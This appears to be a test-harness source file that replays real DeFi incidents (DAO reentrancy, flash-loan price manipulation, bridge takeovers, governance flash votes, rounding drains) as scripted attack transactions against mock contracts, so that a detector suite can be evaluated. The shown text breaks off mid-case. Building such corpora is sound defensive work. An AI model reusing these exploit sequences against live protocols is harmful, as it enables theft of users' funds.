import { AbiCoder, Interface, MaxUint256, getCreateAddress, parseEther, type ContractTransactionResponse } from "ethers";
import {
  AaveStylePool__factory,
  CorpusAMM__factory,
  CorpusBank__factory,
  CorpusBridge__factory,
  CorpusCollateralLender__factory,
  CorpusCreditMarket__factory,
  CorpusDistributor__factory,
  CorpusDrainLogic__factory,
  CorpusExploit__factory,
  CorpusGovernor__factory,
  CorpusHookToken__factory,
  CorpusLiquidityPool__factory,
  CorpusProxy__factory,
  CorpusRouter__factory,
  CorpusScaledPool__factory,
  CorpusShareVault__factory,
  CorpusSharedLedger__factory,
  CorpusTokenBank__factory,
  CorpusVaultLogic__factory,
  CorpusWrapped__factory,
  MockERC20__factory,
  type CorpusExploit,
} from "../../typechain-types";
import { ATTACK_TIP, GUARDIAN_INDEX, corpusConfig, type CorpusChain, type CorpusContract } from "./env";

/**
 * The attack corpus: each case is a small contract set with the bug of a named real incident, and the
 * attacker's transactions as they were shaped (how many, spread over how many blocks). Every case runs
 * against the same detector suite (env.ts corpusConfig); a case adds only what a deployment's own config
 * would say (which contracts share state, which invariant holds, which spenders a treasury approved).
 */
export interface Incident {
  name: string;
  date: string;
  loss: string;
  /** Attack transactions in the incident, and the time from the first to the last (approximate, public post-mortems). */
  txs: string;
  span: string;
}

export interface Step {
  label: string;
  /** Sends this step's transactions (unmined); returns their hashes. */
  send(): Promise<string[]>;
  /** Its transactions take funds (the first such step is the first loss-causing one). */
  loss?: boolean;
  /** Empty blocks to mine after it (time between the incident's transactions). */
  idleBlocks?: number;
}

export interface CaseRun {
  contracts: CorpusContract[];
  yaml: string;
  steps: Step[];
  /** Protected holdings, in wei of ether-equivalent (corpus tokens count 1:1 with ether). */
  held(): Promise<bigint>;
  /** Sends a revoke for an allowance finding, as the treasury's operator would on the alert. */
  revoke?(to: string, data: string): Promise<void>;
}

export interface AttackCase {
  id: string;
  klass: string;
  incident: Incident;
  /** The incident's loss was one transaction: only a pending trip (or an on-chain limit) can stop it. */
  oneTx?: boolean;
  build(chain: CorpusChain): Promise<CaseRun>;
}

const ATTACKER = 9;
const GAS = { gasLimit: 25_000_000n, maxPriorityFeePerGas: ATTACK_TIP, maxFeePerGas: ATTACK_TIP * 200n };
type Call = CorpusExploit.CallStruct;
const call = (to: string, data: string, value = 0n, allowFailure = false): Call => ({ to, data, value, allowFailure });
const erc20 = new Interface(["function approve(address,uint256)", "function transfer(address,uint256)", "function transferFrom(address,address,uint256)"]);
const hashOf = async (sent: Promise<ContractTransactionResponse>) => (await sent).hash;
const addr = async (c: { getAddress(): Promise<string> }) => (await c.getAddress()).toLowerCase();

async function guardianAddress(chain: CorpusChain): Promise<string> {
  return chain.account(GUARDIAN_INDEX).getAddress();
}

async function ethHeld(chain: CorpusChain, ...addresses: string[]): Promise<bigint> {
  let total = 0n;
  for (const a of addresses) total += await chain.provider.getBalance(a);
  return total;
}

/** Deploys the attacker's exploit contract naming its targets; the address is known before it is mined. */
async function exploitOf(chain: CorpusChain, targets: string[]): Promise<{ exploit: CorpusExploit; deploy: Step }> {
  const attacker = chain.account(ATTACKER);
  // Deployed by the first step, not now (setup mines blocks); its address follows from the attacker's nonce.
  const from = await attacker.getAddress();
  const address = getCreateAddress({ from, nonce: await chain.provider.getTransactionCount(from, "pending") });
  return {
    exploit: CorpusExploit__factory.connect(address, attacker),
    deploy: { label: "deploy exploit contract", send: async () => [(await new CorpusExploit__factory(attacker).deploy(targets, GAS)).deploymentTransaction()!.hash] },
  };
}

const dao: AttackCase = {
  id: "dao-reentrancy",
  klass: "same-contract reentrancy",
  incident: { name: "The DAO", date: "2016-06-17", loss: "3.6M ETH (~$60M)", txs: "many (splitDAO recursion, repeated)", span: "hours" },
  async build(chain) {
    const bank = await chain.deploy(new CorpusBank__factory(chain.account(0)).deploy(await guardianAddress(chain), 0));
    const a = await addr(bank);
    for (const i of [2, 3, 4, 5]) await chain.setup(bank.connect(chain.account(i)).deposit({ value: parseEther("25") }));
    const { exploit, deploy } = await exploitOf(chain, [a]);
    const round = (): Step => ({
      label: "deposit 4 ETH, re-enter withdraw 4 times",
      loss: true,
      send: async () => [
        await hashOf(exploit.setHook([call(a, bank.interface.encodeFunctionData("withdraw"))], 4, GAS)),
        await hashOf(exploit.run([call(a, bank.interface.encodeFunctionData("deposit"), parseEther("4")), call(a, bank.interface.encodeFunctionData("withdraw"))], { ...GAS, value: parseEther("4") })),
      ],
    });
    return {
      contracts: [{ name: "bank", address: a, abi: "CorpusBank", pausable: true }],
      yaml: corpusConfig(chain, [{ name: "bank", address: a, abi: "CorpusBank", pausable: true }]).yaml,
      steps: [deploy, ...Array.from({ length: 6 }, round)],
      held: () => ethHeld(chain, a),
    };
  },
};

const crossContract: AttackCase = {
  id: "cross-contract-reentrancy",
  klass: "cross-contract reentrancy",
  incident: { name: "Rari Capital Fuse pools", date: "2022-04-30", loss: "~$80M", txs: "several (one per pool)", span: "~1 h" },
  async build(chain) {
    const g = await guardianAddress(chain);
    const marketA = await chain.deploy(new CorpusCreditMarket__factory(chain.account(0)).deploy(g));
    const marketB = await chain.deploy(new CorpusCreditMarket__factory(chain.account(0)).deploy(g));
    const [a, b] = [await addr(marketA), await addr(marketB)];
    const ledger = await chain.deploy(new CorpusSharedLedger__factory(chain.account(0)).deploy([a, b]));
    const l = await addr(ledger);
    await chain.setup(marketA.setLedger(l));
    await chain.setup(marketB.setLedger(l));
    for (const i of [2, 3, 4, 5]) await chain.setup(marketA.connect(chain.account(i)).deposit({ value: parseEther("25") }));
    const { exploit, deploy } = await exploitOf(chain, [a, b]);
    const attackerEoa = await chain.account(ATTACKER).getAddress();
    const ten = parseEther("10");
    const round = (): Step[] => [
      {
        label: "withdraw from A, move the same credit out through B mid-call",
        loss: true,
        send: async () => [
          await hashOf(exploit.setHook([call(b, marketB.interface.encodeFunctionData("moveCredit", [attackerEoa, ten]))], 1, GAS)),
          await hashOf(exploit.run([call(a, marketA.interface.encodeFunctionData("deposit"), ten), call(a, marketA.interface.encodeFunctionData("withdraw", [ten]))], { ...GAS, value: ten })),
        ],
      },
      { label: "withdraw the moved credit", loss: true, send: async () => [await hashOf(marketA.connect(chain.account(ATTACKER)).withdraw(ten, GAS))] },
    ];
    const contracts: CorpusContract[] = [
      { name: "marketA", address: a, abi: "CorpusCreditMarket", pausable: true },
      { name: "marketB", address: b, abi: "CorpusCreditMarket", pausable: true },
      { name: "ledger", address: l, abi: "CorpusSharedLedger", pausable: false },
    ];
    return { contracts, yaml: corpusConfig(chain, contracts, { groups: [["marketA", "marketB", "ledger"]] }).yaml, steps: [deploy, ...Array.from({ length: 8 }, round).flat()], held: () => ethHeld(chain, a, b) };
  },
};

/** A liquidity pool and a lender that prices the pool's LP token at pool.price(). */
async function poolAndLender(chain: CorpusChain) {
  const g = await guardianAddress(chain);
  const pool = await chain.deploy(new CorpusLiquidityPool__factory(chain.account(0)).deploy(g));
  const p = await addr(pool);
  const lender = await chain.deploy(new CorpusCollateralLender__factory(chain.account(0)).deploy(g, p, p));
  const l = await addr(lender);
  for (const i of [2, 3]) await chain.setup(pool.connect(chain.account(i)).add({ value: parseEther("50") }));
  await chain.setup(chain.account(4).sendTransaction({ to: l, value: parseEther("100") }));
  return { pool, lender, p, l };
}

const readOnly: AttackCase = {
  id: "read-only-reentrancy",
  klass: "read-only reentrancy",
  incident: { name: "dForce (Curve get_virtual_price)", date: "2023-02-10", loss: "~$3.65M", txs: "2 (Arbitrum, Optimism)", span: "minutes" },
  async build(chain) {
    const { pool, lender, p, l } = await poolAndLender(chain);
    const { exploit, deploy } = await exploitOf(chain, [p, l]);
    const x = await addr(exploit);
    const round = (): Step => ({
      label: "add 1000 ETH, remove 900 LP; borrow against LP priced mid-removal",
      loss: true,
      send: async () => [
        await hashOf(exploit.setHook([call(l, lender.interface.encodeFunctionData("depositAndBorrow", [parseEther("100"), parseEther("20")]))], 1, GAS)),
        await hashOf(
          exploit.run(
            [
              call(p, pool.interface.encodeFunctionData("add"), parseEther("1000")),
              call(p, erc20.encodeFunctionData("approve", [l, MaxUint256])),
              call(p, pool.interface.encodeFunctionData("remove", [parseEther("900")])),
            ],
            { ...GAS, value: parseEther("1000") },
          ),
        ),
      ],
    });
    void x;
    const contracts: CorpusContract[] = [
      { name: "pool", address: p, abi: "CorpusLiquidityPool", pausable: true },
      { name: "lender", address: l, abi: "CorpusCollateralLender", pausable: true },
    ];
    return { contracts, yaml: corpusConfig(chain, contracts).yaml, steps: [deploy, ...Array.from({ length: 5 }, round)], held: () => ethHeld(chain, l) };
  },
};

const erc777: AttackCase = {
  id: "erc777-hook-reentrancy",
  klass: "ERC-777 hook reentrancy",
  incident: { name: "Lendf.Me (imBTC)", date: "2020-04-19", loss: "~$25M", txs: "dozens", span: "~2 h" },
  async build(chain) {
    const token = await chain.deploy(new CorpusHookToken__factory(chain.account(0)).deploy());
    const t = await addr(token);
    const bank = await chain.deploy(new CorpusTokenBank__factory(chain.account(0)).deploy(await guardianAddress(chain), t));
    const b = await addr(bank);
    for (const i of [2, 3]) {
      await chain.setup(token.mint(await chain.account(i).getAddress(), parseEther("50")));
      await chain.setup(token.connect(chain.account(i)).approve(b, MaxUint256));
      await chain.setup(bank.connect(chain.account(i)).supply(parseEther("50")));
    }
    const { exploit, deploy } = await exploitOf(chain, [b]);
    const x = await addr(exploit);
    await chain.setup(token.mint(x, parseEther("10")));
    const ten = parseEther("10");
    const prime: Step = {
      label: "approve, supply 10, register the tokensToSend hook",
      send: async () => [await hashOf(exploit.run([call(t, erc20.encodeFunctionData("approve", [b, MaxUint256])), call(b, bank.interface.encodeFunctionData("supply", [ten])), call(t, token.interface.encodeFunctionData("registerHook"))], GAS))],
    };
    const round = (): Step => ({
      label: "supply 1 wei; the hook withdraws 10 before the balance is written back",
      loss: true,
      send: async () => [
        await hashOf(exploit.setHook([call(b, bank.interface.encodeFunctionData("withdraw", [ten]))], 1, GAS)),
        await hashOf(exploit.run([call(b, bank.interface.encodeFunctionData("supply", [1n]))], GAS)),
      ],
    });
    const contracts: CorpusContract[] = [{ name: "tokenBank", address: b, abi: "CorpusTokenBank", pausable: true }];
    return { contracts, yaml: corpusConfig(chain, contracts).yaml, steps: [deploy, prime, ...Array.from({ length: 8 }, round)], held: () => token.balanceOf(b) };
  },
};

/** Collateral token C and quote token Q in an AMM, and a lender of ether that prices C at the AMM's spot. */
async function ammLender(chain: CorpusChain) {
  const g = await guardianAddress(chain);
  const deployer = chain.account(0);
  const c = await chain.deploy(new MockERC20__factory(deployer).deploy("Collateral", "COL", 18));
  const q = await chain.deploy(new MockERC20__factory(deployer).deploy("Quote", "QUO", 18));
  const [ca, qa] = [await addr(c), await addr(q)];
  const amm = await chain.deploy(new CorpusAMM__factory(deployer).deploy(g, ca, qa));
  const am = await addr(amm);
  await chain.setup(c.mint(am, parseEther("1000")));
  await chain.setup(q.mint(am, parseEther("1000")));
  const lender = await chain.deploy(new CorpusCollateralLender__factory(deployer).deploy(g, ca, am));
  const l = await addr(lender);
  await chain.setup(chain.account(4).sendTransaction({ to: l, value: parseEther("100") }));
  return { c, q, ca, qa, amm, am, lender, l };
}

const flashPrice: AttackCase = {
  id: "flash-loan-price-manipulation",
  klass: "flash-loan price manipulation",
  incident: { name: "Harvest Finance", date: "2020-10-26", loss: "~$24M", txs: "~30 (one loop each)", span: "~7 min" },
  async build(chain) {
    const { c, q, ca, qa, amm, am, lender, l } = await ammLender(chain);
    const aave = await chain.deploy(new AaveStylePool__factory(chain.account(0)).deploy());
    const av = await addr(aave);
    await chain.setup(q.mint(av, parseEther("5000")));
    const { exploit, deploy } = await exploitOf(chain, [l, am]);
    const x = await addr(exploit);
    await chain.setup(q.mint(x, parseEther("100")));
    await chain.setup(c.mint(x, parseEther("100")));
    const loan = parseEther("3000");
    const inner: Call[] = [
      call(qa, erc20.encodeFunctionData("approve", [am, MaxUint256])),
      call(am, amm.interface.encodeFunctionData("swap", [qa, loan])),
      call(ca, erc20.encodeFunctionData("approve", [l, MaxUint256])),
      call(l, lender.interface.encodeFunctionData("depositAndBorrow", [parseEther("2"), parseEther("20")])),
      call(ca, erc20.encodeFunctionData("approve", [am, MaxUint256])),
      call(am, amm.interface.encodeFunctionData("swap", [ca, parseEther("749")])),
    ];
    const params = AbiCoder.defaultAbiCoder().encode(["tuple(address to,uint256 value,bytes data,bool allowFailure)[]"], [inner.map((k) => [k.to, k.value, k.data, k.allowFailure])]);
    const round = (): Step => ({
      label: "flash-borrow 3000 QUO, pump COL, borrow 20 ETH on 2 COL, dump, repay",
      loss: true,
      send: async () => [await hashOf(exploit.run([call(av, aave.interface.encodeFunctionData("flashLoanSimple", [x, qa, loan, params, 0]))], GAS))],
    });
    const contracts: CorpusContract[] = [
      { name: "lender", address: l, abi: "CorpusCollateralLender", pausable: true },
      { name: "amm", address: am, abi: "CorpusAMM", pausable: true, detectors: { "outflow-window": AMM_WINDOWS } },
    ];
    return { contracts, yaml: corpusConfig(chain, contracts).yaml, steps: [deploy, ...Array.from({ length: 5 }, round)], held: () => ethHeld(chain, l) };
  },
};

/** AMMs pay out one asset for another on every swap: their outflow windows are wider. */
export const AMM_WINDOWS = { windows: [{ duration: 600, maxShare: 0.25 }, { duration: 3600, maxShare: 0.4 }] };

const donation: AttackCase = {
  id: "donation-inflation",
  klass: "donation / share-price inflation",
  incident: { name: "Hundred Finance", date: "2023-04-15", loss: "~$7.4M", txs: "a few (one per market)", span: "minutes" },
  async build(chain) {
    const g = await guardianAddress(chain);
    const deployer = chain.account(0);
    const q = await chain.deploy(new MockERC20__factory(deployer).deploy("Quote", "QUO", 18));
    const qa = await addr(q);
    const vault = await chain.deploy(new CorpusShareVault__factory(deployer).deploy(g, qa));
    const v = await addr(vault);
    const lender = await chain.deploy(new CorpusCollateralLender__factory(deployer).deploy(g, v, v));
    const l = await addr(lender);
    await chain.setup(chain.account(4).sendTransaction({ to: l, value: parseEther("100") }));
    const { exploit, deploy } = await exploitOf(chain, [l, v]);
    const x = await addr(exploit);
    await chain.setup(q.mint(x, parseEther("1000")));
    const first: Step = {
      label: "deposit 1 QUO into the empty vault, donate 100 QUO, borrow 20 ETH on 0.3 shares",
      loss: true,
      send: async () => [
        await hashOf(
          exploit.run(
            [
              call(qa, erc20.encodeFunctionData("approve", [v, MaxUint256])),
              call(v, vault.interface.encodeFunctionData("deposit", [parseEther("1")])),
              call(qa, erc20.encodeFunctionData("transfer", [v, parseEther("100")])),
              call(v, erc20.encodeFunctionData("approve", [l, MaxUint256])),
              call(l, lender.interface.encodeFunctionData("depositAndBorrow", [parseEther("0.3"), parseEther("20")])),
            ],
            GAS,
          ),
        ),
      ],
    };
    const more = (): Step => ({ label: "borrow 20 ETH more on 0.3 shares", loss: true, send: async () => [await hashOf(exploit.run([call(l, lender.interface.encodeFunctionData("depositAndBorrow", [parseEther("0.3"), parseEther("20")]))], GAS))] });
    const contracts: CorpusContract[] = [
      { name: "lender", address: l, abi: "CorpusCollateralLender", pausable: true },
      { name: "vault", address: v, abi: "CorpusShareVault", pausable: true },
    ];
    return { contracts, yaml: corpusConfig(chain, contracts).yaml, steps: [deploy, first, ...Array.from({ length: 4 }, more)], held: () => ethHeld(chain, l) };
  },
};

const unbackedMint: AttackCase = {
  id: "unbacked-mint",
  klass: "unbacked mint",
  incident: { name: "Wormhole", date: "2022-02-02", loss: "120k wETH (~$326M)", txs: "mint, then redemptions", span: "~1 h" },
  async build(chain) {
    const w = await chain.deploy(new CorpusWrapped__factory(chain.account(0)).deploy(await guardianAddress(chain)));
    const a = await addr(w);
    for (const i of [2, 3, 4, 5]) await chain.setup(w.connect(chain.account(i)).deposit({ value: parseEther("25") }));
    const attacker = chain.account(ATTACKER);
    const redeem = (): Step => ({ label: "redeem 34 wETH for ether", loss: true, send: async () => [await hashOf(w.connect(attacker).withdraw(parseEther("34"), GAS))] });
    const contracts: CorpusContract[] = [{ name: "wrapped", address: a, abi: "CorpusWrapped", pausable: true }];
    return {
      contracts,
      yaml: corpusConfig(chain, contracts, { invariants: [{ name: "backing", expr: "wrapped.totalSupply() <= eth.balance(wrapped)" }] }).yaml,
      steps: [{ label: "bridgeMint 100 wETH backed by nothing", send: async () => [await hashOf(w.connect(attacker).bridgeMint(await attacker.getAddress(), parseEther("100"), GAS))] }, redeem(), redeem(), redeem()],
      held: () => ethHeld(chain, a),
    };
  },
};

async function bridgeWith(chain: CorpusChain, keeperIndex: number) {
  const bridge = await chain.deploy(new CorpusBridge__factory(chain.account(0)).deploy(await guardianAddress(chain), await chain.account(keeperIndex).getAddress()));
  const a = await addr(bridge);
  for (const i of [2, 3, 4, 5]) await chain.setup(bridge.connect(chain.account(i)).lock({ value: parseEther("25") }));
  return { bridge, a, contracts: [{ name: "bridge", address: a, abi: "CorpusBridge", pausable: true }] as CorpusContract[] };
}

const takeover: AttackCase = {
  id: "access-control-takeover",
  klass: "access-control takeover, then drain",
  incident: { name: "Poly Network", date: "2021-08-10", loss: "~$611M", txs: "keeper change, then withdrawals on 3 chains", span: "~1 h" },
  async build(chain) {
    const { bridge, a, contracts } = await bridgeWith(chain, 0);
    const attacker = chain.account(ATTACKER);
    const me = await attacker.getAddress();
    const release = (): Step => ({ label: "release 50 ETH as the new keeper", loss: true, send: async () => [await hashOf(bridge.connect(attacker).release(me, parseEther("50"), GAS))] });
    return {
      contracts,
      yaml: corpusConfig(chain, contracts).yaml,
      steps: [{ label: "relay a message that calls the bridge's own setKeeper", send: async () => [await hashOf(bridge.connect(attacker).relay(a, bridge.interface.encodeFunctionData("setKeeper", [me]), GAS))] }, release(), release()],
      held: () => ethHeld(chain, a),
    };
  },
};

const upgrade: AttackCase = {
  id: "malicious-upgrade",
  klass: "malicious upgrade (compromised admin key)",
  incident: { name: "PAID Network", date: "2021-03-05", loss: "~$3M (59M PAID minted)", txs: "upgrade, then mint and sales", span: "~1 h" },
  async build(chain) {
    const admin = chain.account(8);
    const logic = await chain.deploy(new CorpusVaultLogic__factory(chain.account(0)).deploy());
    const proxy = await chain.deploy(new CorpusProxy__factory(admin).deploy(await guardianAddress(chain), await logic.getAddress()));
    const a = await addr(proxy);
    const vault = CorpusVaultLogic__factory.connect(a, chain.account(0));
    for (const i of [2, 3, 4, 5]) await chain.setup(vault.connect(chain.account(i)).deposit({ value: parseEther("25") }));
    const adminAddress = await admin.getAddress();
    const drainAddress = getCreateAddress({ from: adminAddress, nonce: await chain.provider.getTransactionCount(adminAddress, "pending") });
    const drained = CorpusDrainLogic__factory.connect(a, admin);
    const take = (): Step => ({ label: "take 50 ETH through the new implementation", loss: true, send: async () => [await hashOf(drained.take(await admin.getAddress(), parseEther("50"), GAS))] });
    const contracts: CorpusContract[] = [{ name: "proxy", address: a, abi: "CorpusProxy", pausable: true }];
    return {
      contracts,
      yaml: corpusConfig(chain, contracts).yaml,
      steps: [
        { label: "deploy the draining implementation", send: async () => [(await new CorpusDrainLogic__factory(admin).deploy(GAS)).deploymentTransaction()!.hash] },
        { label: "upgradeTo(drain) with the stolen admin key", send: async () => [await hashOf(proxy.connect(admin).upgradeTo(drainAddress, GAS))] },
        take(),
        take(),
      ],
      held: () => ethHeld(chain, a),
    };
  },
};

const allowance: AttackCase = {
  id: "allowance-drain",
  klass: "allowance drain through an approved router",
  incident: { name: "Socket (Bungee)", date: "2024-01-16", loss: "~$3.3M", txs: "many transferFrom calls", span: "~1 h" },
  async build(chain) {
    const deployer = chain.account(0);
    const q = await chain.deploy(new MockERC20__factory(deployer).deploy("Quote", "QUO", 18));
    const qa = await addr(q);
    const router = await chain.deploy(new CorpusRouter__factory(deployer).deploy());
    const r = await addr(router);
    const treasury = chain.account(7);
    const t = (await treasury.getAddress()).toLowerCase();
    await chain.setup(q.mint(t, parseEther("100")));
    await chain.setup(q.connect(treasury).approve(r, MaxUint256));
    const attacker = chain.account(ATTACKER);
    const me = await attacker.getAddress();
    const pull = (): Step => ({ label: "route(token, transferFrom(treasury, attacker, 20))", loss: true, send: async () => [await hashOf(router.connect(attacker).route(qa, erc20.encodeFunctionData("transferFrom", [t, me, parseEther("20")]), GAS))] });
    return {
      contracts: [],
      yaml: corpusConfig(chain, [], { treasuries: [{ name: "treasury", address: t, knownSpenders: [r], operators: [t] }] }).yaml,
      steps: Array.from({ length: 5 }, pull),
      held: () => q.balanceOf(t),
      async revoke(to, data) {
        await treasury.sendTransaction({ to, data, gasLimit: 100_000n, maxPriorityFeePerGas: ATTACK_TIP * 100n, maxFeePerGas: ATTACK_TIP * 400n });
      },
    };
  },
};

const slowSybil: AttackCase = {
  id: "slow-sybil-drain",
  klass: "slow sybil drain",
  incident: { name: "Compound Proposal 62 (COMP over-distribution)", date: "2021-09-29", loss: "~$80M of COMP", txs: "hundreds of claims by many accounts", span: "days" },
  async build(chain) {
    const deployer = chain.account(0);
    const q = await chain.deploy(new MockERC20__factory(deployer).deploy("Reward", "RWD", 18));
    const qa = await addr(q);
    const dist = await chain.deploy(new CorpusDistributor__factory(deployer).deploy(await guardianAddress(chain), qa));
    const d = await addr(dist);
    await chain.setup(q.mint(d, parseEther("100")));
    const steps: Step[] = [];
    for (let i = 0; i < 300; i++) {
      steps.push({ label: "a fresh account claims 0.09 %", loss: true, send: async () => [await hashOf(dist.connect(await chain.fresh()).claim(GAS))] });
    }
    const contracts: CorpusContract[] = [{ name: "distributor", address: d, abi: "CorpusDistributor", pausable: true }];
    return { contracts, yaml: corpusConfig(chain, contracts).yaml, steps, held: () => q.balanceOf(d) };
  },
};

const keyCompromise: AttackCase = {
  id: "key-compromise-withdrawals",
  klass: "key compromise, multi-withdrawal",
  incident: { name: "Ronin bridge", date: "2022-03-23", loss: "173,600 ETH + 25.5M USDC (~$624M)", txs: "2", span: "~6 min" },
  async build(chain) {
    const { bridge, a, contracts } = await bridgeWith(chain, 6);
    const key = chain.account(6);
    const me = await chain.account(ATTACKER).getAddress();
    return {
      contracts,
      yaml: corpusConfig(chain, contracts).yaml,
      steps: [
        { label: "release 60 ETH with the validator key", loss: true, idleBlocks: 29, send: async () => [await hashOf(bridge.connect(key).release(me, parseEther("60"), GAS))] },
        { label: "release 39 ETH with the validator key", loss: true, send: async () => [await hashOf(bridge.connect(key).release(me, parseEther("39"), GAS))] },
      ],
      held: () => ethHeld(chain, a),
    };
  },
};

const governance: AttackCase = {
  id: "governance-flash-vote",
  klass: "governance flash-loan vote",
  incident: { name: "Beanstalk", date: "2022-04-17", loss: "~$182M", txs: "2 (proposal, then flash-loan emergencyCommit a day later)", span: "~1 day" },
  oneTx: true,
  async build(chain) {
    const deployer = chain.account(0);
    const votes = await chain.deploy(new MockERC20__factory(deployer).deploy("Votes", "VOTE", 18));
    const va = await addr(votes);
    const gov = await chain.deploy(new CorpusGovernor__factory(deployer).deploy(await guardianAddress(chain), va));
    const ga = await addr(gov);
    await chain.setup(deployer.sendTransaction({ to: ga, value: parseEther("100") }));
    for (const i of [2, 3]) await chain.setup(votes.mint(await chain.account(i).getAddress(), parseEther("500")));
    const aave = await chain.deploy(new AaveStylePool__factory(deployer).deploy());
    const av = await addr(aave);
    await chain.setup(votes.mint(av, parseEther("5000")));
    const { exploit, deploy } = await exploitOf(chain, [ga]);
    const x = await addr(exploit);
    await chain.setup(votes.mint(x, parseEther("10")));
    const params = AbiCoder.defaultAbiCoder().encode(["tuple(address to,uint256 value,bytes data,bool allowFailure)[]"], [[[ga, 0n, gov.interface.encodeFunctionData("emergencyCommit", [0]), false]]]);
    const contracts: CorpusContract[] = [{ name: "governor", address: ga, abi: "CorpusGovernor", pausable: true }];
    return {
      contracts,
      yaml: corpusConfig(chain, contracts).yaml,
      steps: [
        deploy,
        { label: "propose: send the treasury to the exploit contract", idleBlocks: 20, send: async () => [await hashOf(exploit.run([call(ga, gov.interface.encodeFunctionData("propose", [x, parseEther("100"), "0x"]))], GAS))] },
        { label: "flash-borrow 4900 VOTE, emergencyCommit, repay", loss: true, send: async () => [await hashOf(exploit.run([call(av, aave.interface.encodeFunctionData("flashLoanSimple", [x, va, parseEther("4900"), params, 0]))], GAS))] },
      ],
      held: () => ethHeld(chain, ga),
    };
  },
};

const replay: AttackCase = {
  id: "bridge-message-replay",
  klass: "bridge message replay (copycats)",
  incident: { name: "Nomad bridge", date: "2022-08-01", loss: "~$190M", txs: "hundreds, by ~40+ accounts", span: "~3 h" },
  async build(chain) {
    const { bridge, a, contracts } = await bridgeWith(chain, 0);
    const steps: Step[] = [];
    for (let i = 0; i < 25; i++) {
      steps.push({
        label: "a copycat processes a message under the zero root",
        loss: true,
        send: async () => {
          const who = await chain.fresh();
          return [await hashOf(bridge.connect(who).process("0x" + "00".repeat(32), await who.getAddress(), parseEther("4"), i, GAS))];
        },
      });
    }
    return { contracts, yaml: corpusConfig(chain, contracts).yaml, steps, held: () => ethHeld(chain, a) };
  },
};

const rounding: AttackCase = {
  id: "rounding-precision-drain",
  klass: "rounding / precision drain (many small operations)",
  incident: { name: "Balancer V2 composable stable pools", date: "2025-11-03", loss: "~$128M", txs: "batch swaps on several chains", span: "~30 min" },
  async build(chain) {
    const deployer = chain.account(0);
    const fine = await chain.deploy(new MockERC20__factory(deployer).deploy("Fine", "FIN", 18));
    const coarse = await chain.deploy(new MockERC20__factory(deployer).deploy("Coarse", "CRS", 2));
    const [fa, ca] = [await addr(fine), await addr(coarse)];
    const pool = await chain.deploy(new CorpusScaledPool__factory(deployer).deploy(await guardianAddress(chain), fa, ca));
    const p = await addr(pool);
    await chain.setup(fine.mint(p, parseEther("100")));
    await chain.setup(coarse.mint(p, 10_000n));
    const { exploit, deploy } = await exploitOf(chain, [p]);
    const x = await addr(exploit);
    await chain.setup(fine.mint(x, 1000n));
    const calls: Call[] = [call(fa, erc20.encodeFunctionData("approve", [p, MaxUint256])), call(ca, erc20.encodeFunctionData("approve", [p, MaxUint256]))];
    for (let i = 0; i < 300; i++) calls.push(call(p, pool.interface.encodeFunctionData("sellFine", [1n])), call(p, pool.interface.encodeFunctionData("sellCoarse", [1n])));
    const round = (): Step => ({ label: "300 pairs of 1-wei sells, each rounded up", loss: true, send: async () => [await hashOf(exploit.run(calls, GAS))] });
    const contracts: CorpusContract[] = [{ name: "scaledPool", address: p, abi: "CorpusScaledPool", pausable: true }];
    return { contracts, yaml: corpusConfig(chain, contracts).yaml, steps: [deploy, ...Array.from({ length: 10 }, round)], held: async () => (await fine.balanceOf(p)) + (await coarse.balanceOf(p)) * 10n ** 16n };
  },
};

const deployFirst: AttackCase = {
  id: "exploit-contract-deployed-first",
  klass: "exploit contract deployed first, then used",
  incident: { name: "Euler Finance", date: "2023-03-13", loss: "~$197M", txs: "6 (contracts deployed first)", span: "~1 h" },
  async build(chain) {
    const bank = await chain.deploy(new CorpusBank__factory(chain.account(0)).deploy(await guardianAddress(chain), 1));
    const a = await addr(bank);
    for (const i of [2, 3, 4, 5]) await chain.setup(bank.connect(chain.account(i)).deposit({ value: parseEther("25") }));
    const { exploit, deploy } = await exploitOf(chain, [a]);
    const x = await addr(exploit);
    const take = (): Step => ({ label: "sweep 20 ETH (no access check)", loss: true, send: async () => [await hashOf(exploit.run([call(a, bank.interface.encodeFunctionData("sweep", [x, parseEther("20")]))], GAS))] });
    const contracts: CorpusContract[] = [{ name: "bank", address: a, abi: "CorpusBank", pausable: true }];
    return { contracts, yaml: corpusConfig(chain, contracts).yaml, steps: [{ ...deploy, idleBlocks: 5 }, ...Array.from({ length: 5 }, take)], held: () => ethHeld(chain, a) };
  },
};

const oraclePump: AttackCase = {
  id: "multi-block-oracle-manipulation",
  klass: "multi-block spot-oracle manipulation",
  incident: { name: "Mango Markets", date: "2022-10-11", loss: "~$114M", txs: "pump trades, then borrows", span: "~20 min" },
  async build(chain) {
    const { c, q, ca, qa, amm, am, lender, l } = await ammLender(chain);
    const attacker = chain.account(ATTACKER);
    const me = await attacker.getAddress();
    await chain.setup(q.mint(me, parseEther("3000")));
    await chain.setup(q.connect(attacker).approve(am, MaxUint256));
    await chain.setup(c.connect(attacker).approve(l, MaxUint256));
    const pump = (): Step => ({ label: "buy COL with 400 QUO", send: async () => [await hashOf(amm.connect(attacker).swap(qa, parseEther("400"), GAS))] });
    const borrow = (): Step => ({ label: "borrow 30 ETH on 5 COL at the pumped price", loss: true, send: async () => [await hashOf(lender.connect(attacker).depositAndBorrow(parseEther("5"), parseEther("30"), GAS))] });
    void ca;
    const contracts: CorpusContract[] = [
      { name: "lender", address: l, abi: "CorpusCollateralLender", pausable: true },
      { name: "amm", address: am, abi: "CorpusAMM", pausable: true, detectors: { "outflow-window": AMM_WINDOWS } },
    ];
    return { contracts, yaml: corpusConfig(chain, contracts).yaml, steps: [pump(), pump(), pump(), borrow(), borrow(), borrow(), borrow()], held: () => ethHeld(chain, l) };
  },
};

const initializer: AttackCase = {
  id: "initializer-takeover",
  klass: "unprotected initializer takeover",
  incident: { name: "Parity multisig wallets", date: "2017-07-19", loss: "153,037 ETH (~$30M)", txs: "2 per wallet (initWallet, execute)", span: "minutes" },
  async build(chain) {
    const bank = await chain.deploy(new CorpusBank__factory(chain.account(0)).deploy(await guardianAddress(chain), 1));
    const a = await addr(bank);
    for (const i of [2, 3, 4, 5]) await chain.setup(bank.connect(chain.account(i)).deposit({ value: parseEther("25") }));
    const attacker = chain.account(ATTACKER);
    const me = await attacker.getAddress();
    const contracts: CorpusContract[] = [{ name: "bank", address: a, abi: "CorpusBank", pausable: true }];
    return {
      contracts,
      yaml: corpusConfig(chain, contracts).yaml,
      steps: [
        { label: "initOwner(attacker) again", send: async () => [await hashOf(bank.connect(attacker).initOwner(me, GAS))] },
        { label: "ownerWithdraw everything", loss: true, send: async () => [await hashOf(bank.connect(attacker).ownerWithdraw(me, parseEther("100"), GAS))] },
      ],
      held: () => ethHeld(chain, a),
